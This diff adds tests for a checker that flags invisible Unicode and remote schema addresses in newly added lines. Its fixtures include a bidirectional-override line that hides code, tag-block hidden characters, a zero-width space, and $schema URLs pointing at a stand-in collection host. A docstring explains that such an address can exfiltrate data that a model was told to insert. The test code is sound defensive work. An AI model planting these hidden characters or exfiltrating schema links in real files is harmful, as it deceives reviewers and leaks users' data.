@@ -468,3 +468,41 @@ def test_lines_that_are_too_long_are_named(tmp_path: Path) -> None:
     project(tmp_path, {".editorconfig": "[*]\nmax_line_length = 10\n"})
     checked = check(tmp_path, "a.sh", "a\n", "a\necho one two three\n")
     assert checked.warnings == ("lines longer than 10, which .editorconfig allows: 2",)
+
+
+@pytest.mark.parametrize(
+    ("line", "said"),
+    [
+        ("is_admin = False  # \u202e }if\n", "reorder text"),
+        ("x = 1  #\U000e0072\U000e006d\n", "tag block"),
+        ("name = 'us\u200ber'\n", "no width"),
+    ],
+)
+def test_what_nobody_sees_in_new_lines_is_named(tmp_path: Path, line: str, said: str) -> None:
+    checked = check(tmp_path, "a.py", "y = 2\n", f"y = 2\n{line}")
+    assert [warning for warning in checked.warnings if said in warning and "line 2" in warning]
+    assert not check(tmp_path, "a.py", line, f"{line}y = 2\n").warnings
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("a.json", '{"$schema": "https://collect.example/?k=1"}\n'),
+        ("a.yaml", "# yaml-language-server: $schema=https://collect.example/s.json\na: 1\n"),
+        ("a.toml", '"$schema" = "http://collect.example/s"\n'),
+        ("a.json", '{"$schema": "https://json-schema.org/x?key=1"}\n'),
+    ],
+)
+def test_what_an_editor_would_load_is_named(tmp_path: Path, name: str, text: str) -> None:
+    """CVE-2025-49150, -53097, -58335: a schema's address carries off what a model was told to put in it."""
+    warnings = check(tmp_path, name, "", text).warnings
+    assert [warning for warning in warnings if "loads http" in warning]
+    assert not [one for one in check(tmp_path, name, text, f"{text}\n").warnings if "loads" in one]
+
+
+@pytest.mark.parametrize(
+    "text",
+    ['{"$schema": "https://json-schema.org/draft/2020-12/schema"}\n', '{"$schema": "./schema.json"}\n'],
+)
+def test_the_usual_schemas_and_those_of_the_project_are_not(tmp_path: Path, text: str) -> None:
+    assert not [one for one in check(tmp_path, "a.json", "", text).warnings if "loads" in one]
